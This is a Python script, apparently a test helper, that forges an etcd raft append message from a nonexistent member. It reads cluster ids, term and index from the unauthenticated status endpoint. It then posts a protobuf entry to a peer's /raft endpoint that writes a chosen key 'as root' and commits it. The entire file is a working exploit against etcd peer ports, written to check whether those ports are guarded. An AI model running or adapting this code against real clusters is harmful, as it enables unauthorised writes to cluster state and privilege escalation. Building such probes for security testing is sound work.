"""A stranger's raft message: one `MsgApp` that appends a put "as root" to etcd's log.

Standard library only, so a test can run it as `nobody` with the system Python:

    raft_intruder.py STATUS PEER_TARGET KEY VALUE

STATUS is etcd's `maintenance/status` as its JSON gateway answers it: a client
URL to ask (a plain client port answers it without credentials), or the JSON
itself (a test hands the intruder every public figure, however etcd's client
port is guarded): the cluster id, member id, term and index. It posts the
message to PEER_TARGET's `/raft`: `http://HOST:PORT` or `unix:/path/to/socket`
(`unix:@name` for an abstract one). It prints `posted <HTTP status>` or
`refused <reason>` and exits 0 either way: the test decides from what etcd holds
afterwards, not from what the intruder says.
"""

from __future__ import annotations

import http.client
import json
import socket
import sys
import urllib.request


def varint(value: int) -> bytes:
    out = bytearray()
    while True:
        bits, value = value & 0x7F, value >> 7
        out.append(bits | (0x80 if value else 0))
        if not value:
            return bytes(out)


def number(field: int, value: int) -> bytes:
    return varint(field << 3) + varint(value)


def blob(field: int, value: bytes) -> bytes:
    return varint(field << 3 | 2) + varint(len(value)) + value


def message(status: dict[str, object], key: bytes, value: bytes) -> bytes:
    """raftpb.Message{MsgApp} from a "leader" of the next term, carrying one entry that
    is an InternalRaftRequest{header: {username: root, auth_revision: huge}, put}."""
    header = status["header"]
    assert isinstance(header, dict)
    member, term = int(header["member_id"]), int(str(status["raftTerm"]))
    index = int(str(status["raftIndex"]))
    request_header = number(1, 0xC0FFEE) + blob(2, b"root") + number(3, 1 << 62)
    request = (
        blob(100, request_header) + number(1, 0xC0FFEE) + blob(4, blob(1, key) + blob(2, value))
    )
    entry = number(1, 0) + number(2, term + 1) + number(3, index + 1) + blob(4, request)
    return (
        number(1, 3)  # MsgApp
        + number(2, member)
        + number(3, 0xBAD)  # from: a member that never was
        + number(4, term + 1)
        + number(5, term)  # logTerm: the term of the last entry (the leader's no-op)
        + number(6, index)
        + blob(7, entry)
        + number(8, index + 1)  # commit it
    )


class UnixConnection(http.client.HTTPConnection):
    def __init__(self, path: str) -> None:
        super().__init__("localhost", timeout=10)
        self.path = path

    def connect(self) -> None:
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(10)
        # `@name`: an abstract socket, which no file mode guards.
        self.sock.connect("\0" + self.path[1:] if self.path.startswith("@") else self.path)


def main(status_source: str, target: str, key: str, value: str) -> None:
    if status_source.startswith("{"):
        status = json.loads(status_source)
    else:
        status_request = urllib.request.Request(
            status_source + "/v3/maintenance/status", data=b"{}", method="POST"
        )
        with urllib.request.urlopen(status_request, timeout=10) as response:
            status = json.loads(response.read())
    header = status["header"]
    headers = {
        "Content-Type": "application/protobuf",
        "X-Etcd-Cluster-ID": format(int(header["cluster_id"]), "x"),
        "X-Server-From": format(0xBAD, "x"),
        "X-Raft-To": format(int(header["member_id"]), "x"),
        "X-Server-Version": str(status["version"]),
        "X-Min-Cluster-Version": "3.0.0",
    }
    body = message(status, key.encode(), value.encode())
    try:
        if target.startswith("unix:"):
            connection: http.client.HTTPConnection = UnixConnection(target[len("unix:") :])
        else:
            host, port = target.removeprefix("http://").rsplit(":", 1)
            connection = http.client.HTTPConnection(host, int(port), timeout=10)
        connection.request("POST", "/raft", body=body, headers=headers)
        print("posted", connection.getresponse().status)
    except OSError as exc:
        print("refused", exc)


if __name__ == "__main__":
    main(*sys.argv[1:5])
